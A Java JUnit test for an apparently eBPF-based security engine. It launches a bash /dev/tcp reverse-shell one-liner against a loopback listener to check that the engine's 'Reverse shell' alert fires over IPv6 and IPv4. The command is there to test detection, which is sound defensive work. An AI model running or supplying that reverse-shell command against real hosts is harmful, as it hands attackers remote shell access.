package dev.tapio.app;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.tapio.api.alert.Alert;
import dev.tapio.api.spi.InMemoryAlertSink;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * The bundled "Reverse shell" rule on the real kernel: bash connects to a listener over IPv6 and
 * IPv4 loopback and runs sh on the connection, as an attacker's one-liner does.
 */
@Tag("privileged")
@Tag("kernel")
class ReverseShellEndToEndTest {
  @Test
  void aShellOnALoopbackConnectionRaisesTheBundledAlertOverIpv6AndIpv4() throws Exception {
    assumeTrue(
        "root".equals(System.getProperty("user.name")),
        "SKIPPED LOUDLY: the engine end-to-end test needs root to load eBPF programs");
    var live = new InMemoryAlertSink();
    var options = new EngineOptions(List.of(), false, null, false, 1 << 22, Map.of());
    try (Engine engine = new Engine(options, live)) {
      engine.start();
      for (String host : List.of("::1", "127.0.0.1")) {
        int port = reverseShell(host);
        Alert alert =
            await(
                    live,
                    a ->
                        a.rule().equals("Reverse shell")
                            && a.outputFields()
                                .getOrDefault("proc.stdin.name", "")
                                .toString()
                                .contains(":" + port))
                .orElseThrow(
                    () -> new AssertionError("no alert for " + host + ": " + live.alerts()));
        String type = host.contains(":") ? "ipv6" : "ipv4";
        assertThat(alert.outputFields().get("proc.name")).isIn("sh", "dash");
        assertThat(alert.outputFields())
            .containsEntry("proc.stdin.type", type)
            .containsEntry("proc.stdout.type", type);
      }
    }
  }

  /** Runs {@code bash -c 'exec 3<>/dev/tcp/HOST/PORT; sh <&3 >&3'}; returns the listener's port. */
  private static int reverseShell(String host) throws Exception {
    try (ServerSocket listener = new ServerSocket()) {
      listener.bind(new InetSocketAddress(InetAddress.getByName(host), 0));
      int port = listener.getLocalPort();
      Process bash =
          new ProcessBuilder(
                  "/bin/bash", "-c", "exec 3<>/dev/tcp/" + host + "/" + port + "; sh <&3 >&3")
              .redirectError(ProcessBuilder.Redirect.DISCARD)
              .start();
      try (Socket shell = listener.accept();
          OutputStream in = shell.getOutputStream()) {
        in.write("exit\n".getBytes(StandardCharsets.UTF_8));
        in.flush();
        assertThat(bash.waitFor()).isZero();
      } finally {
        bash.destroyForcibly();
      }
      return port;
    }
  }

  private static Optional<Alert> await(
      InMemoryAlertSink sink, java.util.function.Predicate<Alert> match)
      throws InterruptedException {
    long deadline = System.nanoTime() + Duration.ofSeconds(20).toNanos();
    while (System.nanoTime() < deadline) {
      Optional<Alert> a = sink.alerts().stream().filter(match).findFirst();
      if (a.isPresent()) {
        return a;
      }
      Thread.sleep(50);
    }
    return Optional.empty();
  }
}
